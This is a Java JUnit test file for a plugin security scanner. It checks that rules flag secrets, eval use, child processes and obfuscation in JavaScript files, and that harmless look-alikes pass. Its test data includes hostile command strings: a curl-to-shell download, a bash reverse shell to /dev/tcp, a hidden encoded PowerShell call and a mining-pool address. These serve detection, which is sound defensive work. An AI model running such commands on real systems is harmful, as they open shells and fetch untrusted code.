package dev.pluginsuite.validation.scanrule;

import static dev.pluginsuite.api.validation.SecurityFinding.Level.CRITICAL;
import static dev.pluginsuite.api.validation.SecurityFinding.Level.HIGH;
import static dev.pluginsuite.api.validation.SecurityFinding.Level.LOW;
import static dev.pluginsuite.api.validation.SecurityFinding.Level.MEDIUM;
import static org.assertj.core.api.Assertions.assertThat;

import dev.pluginsuite.api.validation.SecurityFinding.Level;
import dev.pluginsuite.validation.Mpk;
import dev.pluginsuite.validation.scanning.Scanned;
import dev.pluginsuite.validation.scanning.ShippedScan;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts are put together from pieces, so that nobody's scanner takes this file for a leak. */
class ShippedRulesTest {
  private static final String KEY = "-----BEGIN RSA PRIVATE" + " KEY-----";
  private static final String RANDOM = "q7Zp2LmX9vTc4RbN8sKd1WfGh6YjE3uA0oQi";

  static Stream<Arguments> dangerous() {
    return Stream.of(
        Arguments.of("secret-private-key", CRITICAL, MEDIUM, KEY),
        Arguments.of(
            "secret-private-key", CRITICAL, MEDIUM, "k = '" + KEY + "\\nMIIEpAIBAAKCAQEAx3kdW2a9'"),
        Arguments.of("secret-aws-key", CRITICAL, MEDIUM, "id: 'AKIA" + "2QWLT7ZKDV5RYMBX'"),
        Arguments.of("secret-github-token", CRITICAL, MEDIUM, "t='ghp_" + RANDOM + "'"),
        Arguments.of(
            "secret-gitlab-token", CRITICAL, MEDIUM, "t='glpat-" + RANDOM.substring(0, 20) + "'"),
        Arguments.of("secret-npm-token", CRITICAL, MEDIUM, "t='npm_" + RANDOM + "'"),
        Arguments.of("secret-slack-token", CRITICAL, MEDIUM, "t='xoxb-1234567890-" + RANDOM + "'"),
        Arguments.of("secret-payment-key", CRITICAL, MEDIUM, "t='sk_live_" + RANDOM + "'"),
        Arguments.of(
            "secret-azure-storage-key",
            CRITICAL,
            MEDIUM,
            "AccountKey=" + (RANDOM + RANDOM + RANDOM).substring(0, 86) + "=="),
        Arguments.of("secret-google-key", HIGH, LOW, "k='AIza" + RANDOM.substring(0, 35) + "'"),
        Arguments.of(
            "secret-json-web-token",
            MEDIUM,
            LOW,
            "t='eyJhbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxMjM0In0." + RANDOM + "'"),
        Arguments.of("secret-in-url", HIGH, LOW, "u='https://svc:" + "k9Xw2LpQ7z@erp.group'"),
        Arguments.of("secret-password", HIGH, LOW, "password: 'k9Xw2LpQ7z!Rt5'"),
        Arguments.of("code-eval", CRITICAL, MEDIUM, "const x = eval(input);"),
        Arguments.of("code-eval", CRITICAL, MEDIUM, "(0, eval)(input);"),
        Arguments.of("code-eval", CRITICAL, MEDIUM, "if (eval(input)) {"),
        Arguments.of("code-eval", CRITICAL, MEDIUM, "x = isText ? eval(text) : {};"),
        Arguments.of("code-function-constructor", CRITICAL, MEDIUM, "new Function('a', body)(1)"),
        Arguments.of(
            "code-function-constructor", CRITICAL, MEDIUM, "return Function(names, body);"),
        Arguments.of("code-decoded", CRITICAL, CRITICAL, "eval(atob('YWxlcnQoMSk='))"),
        Arguments.of("code-vm", HIGH, LOW, "vm.runInNewContext(text)"),
        Arguments.of("code-timer-text", MEDIUM, LOW, "setTimeout('tick()', 10)"),
        Arguments.of("process-child", HIGH, LOW, "const cp = require('child_process');"),
        Arguments.of("process-child", HIGH, LOW, "import { spawn } from 'node:child_process';"),
        Arguments.of("process-binding", HIGH, MEDIUM, "process.binding('spawn_sync')"),
        Arguments.of(
            "process-download-and-run", CRITICAL, HIGH, "x('curl -s https://a.example/i | sh')"),
        Arguments.of(
            "process-reverse-shell",
            CRITICAL,
            CRITICAL,
            "x('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')"),
        Arguments.of(
            "process-hidden-powershell",
            CRITICAL,
            HIGH,
            "x('powershell -nop -enc " + RANDOM + RANDOM + "')"),
        Arguments.of(
            "process-crypto-miner", CRITICAL, CRITICAL, "x('stratum+tcp://pool.example:3333')"),
        Arguments.of(
            "obfuscation-renamed",
            HIGH,
            MEDIUM,
            "_0x12ab(_0x34cd,_0x12ab(_0x56ef),_0x12ab(_0x78aa))"),
        Arguments.of("obfuscation-escapes", MEDIUM, LOW, "'" + "\\x61\\x6c\\x65".repeat(4) + "'"),
        Arguments.of(
            "obfuscation-character-codes",
            MEDIUM,
            LOW,
            "String.fromCharCode(" + "104,".repeat(15) + "105)"),
        Arguments.of("obfuscation-encoded-text", MEDIUM, LOW, "atob('" + RANDOM.repeat(6) + "')"),
        Arguments.of("obfuscation-direction", HIGH, LOW, "// check \u202E } if admin"));
  }

  @ParameterizedTest
  @MethodSource("dangerous")
  @Tag("SEED-16")
  void what_is_dangerous_is_found_and_weighs_less_in_a_library(
      String rule, Level own, Level library, String line) {
    var inOwnCode = Scanned.file("dist/a.js", "let a;\n" + line + "\n");
    var inLibrary = Scanned.file("node_modules/x/a.js", "let a;\n" + line + "\n");

    assertThat(inOwnCode.level(rule)).isEqualTo(own);
    assertThat(inLibrary.level(rule)).isEqualTo(library);
    assertThat(inOwnCode.findings()).allMatch(it -> Integer.valueOf(2).equals(it.line()));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "const header = '-----BEGIN PRIVATE KEY-----';",
        "if (text.startsWith('-----BEGIN RSA PRIVATE KEY-----')) {",
        "const id = 'AKIAIOSFODNN7EXAMPLE';",
        "page.eval(selector); retrieval(x); medieval(y);",
        "const root = Function('return this')() || new Function(\"return this\")();",
        "if (x instanceof Function) { isFunction(x); } /** @param {Function} f */",
        "setTimeout(() => 'x', 10); setTimeout(tick, 10);",
        "const password = 'correct.horse.battery'; const label = 'password';",
        "password: 'your-password-here', apiKey: 'API_KEY_PLACEHOLDER',",
        "const url = 'https://user:password@example.com/';",
        "const url = 'postgres://localhost:5432/db'; mail('a@b.example');",
        "const re = /[\\x00-\\x1f\\x7f]/; s = '\\x1b[0m';",
        "String.fromCharCode(13, 10); String.fromCharCode(c);",
        "const img = 'data:image/png;base64,iVBORw0KGgo=';",
        "function evaluate(x) { return x; } class A { static evalCount = 1 }",
        "class Formula { eval(context, depth = 0) { return this.root.eval(context, depth); } }",
        "  eval(context: Context): number {",
        "const secretName = 'supplier_api_credentials';",
      })
  void what_good_code_writes_is_not_found(String line) {
    assertThat(Scanned.file("dist/a.js", line + "\n").findings()).isEmpty();
  }

  @Test
  void what_is_only_mentioned_or_minified_does_not_stop_a_submission() {
    var minified = "var a=1;".repeat(200) + "eval(x)";

    assertThat(Scanned.file("dist/a.js", "// never use eval(x)\n").level("code-eval"))
        .isEqualTo(MEDIUM);
    assertThat(Scanned.file("dist/a.js", "/*\n * eval(x)\n */").level("code-eval"))
        .isEqualTo(MEDIUM);
    assertThat(Scanned.file("dist/a.js", minified).level("code-eval")).isEqualTo(MEDIUM);
    assertThat(Scanned.file("dist/a.min.js", "eval(x)").level("code-eval")).isEqualTo(MEDIUM);
    assertThat(Scanned.file("README.txt", "Never use eval(x).").rules()).isEmpty();
  }

  @Test
  void code_behind_a_comment_is_code() {
    assertThat(Scanned.file("dist/a.js", "/* ok */ eval(x)").level("code-eval"))
        .isEqualTo(CRITICAL);
    assertThat(Scanned.file("dist/a.js", "*eval(x)").level("code-eval")).isEqualTo(CRITICAL);
  }

  @Test
  void a_folder_with_a_published_package_is_a_library_unless_it_is_the_plugin_itself() {
    var published = "{\"name\": \"left-pad\", \"version\": \"1.3.0\"}";
    var own = "{\"name\": \"@group/supplier-risk\", \"version\": \"1.2.0\"}";
    var unpublished = "{\"name\": \"left-pad\", \"version\": \"1.3.0\", \"private\": true}";

    assertThat(withPackageJson("package/package.json", published)).isEqualTo(MEDIUM);
    assertThat(withPackageJson("package.json", published)).isEqualTo(MEDIUM);
    assertThat(withPackageJson("other/package.json", published)).isEqualTo(CRITICAL);
    assertThat(withPackageJson("package.json", own)).isEqualTo(CRITICAL);
    assertThat(withPackageJson("package/package.json", unpublished)).isEqualTo(CRITICAL);
  }

  private static Level withPackageJson(String path, String json) {
    var mpk = Mpk.good().file("package/lib/a.js", "eval(x)").file(path, json);
    return Scanned.of(ShippedScan.scanner(), mpk).findings().get(0).severity();
  }

  @Test
  void what_lies_across_two_pieces_of_a_long_line_is_found_once() {
    for (var before : new int[] {8_180, 8_185, 8_190, 16_000}) {
      var found = Scanned.file("dist/a.js", "a".repeat(before) + ";eval(x);" + "b".repeat(9_000));

      assertThat(found.findings()).hasSize(1);
    }
  }

  @Test
  void every_rule_says_what_it_is_and_is_tried() {
    var rules = ScanRules.shipped().all();
    var tried = dangerous().map(it -> (String) it.get()[0]).collect(Collectors.toSet());

    assertThat(rules).allMatch(it -> it.weakness().message().endsWith("."));
    assertThat(rules).allMatch(it -> it.weakness().remedy().endsWith("."));
    assertThat(rules).extracting(it -> it.weakness().id()).hasSameElementsAs(tried);
  }

  @Test
  void only_what_nobody_does_by_accident_stops_a_library() {
    var stopping =
        ScanRules.shipped().all().stream()
            .filter(it -> it.weakness().librarySeverity() == CRITICAL)
            .map(it -> it.weakness().id())
            .collect(Collectors.toSet());

    assertThat(stopping)
        .isEqualTo(Set.of("code-decoded", "process-reverse-shell", "process-crypto-miner"));
  }
}
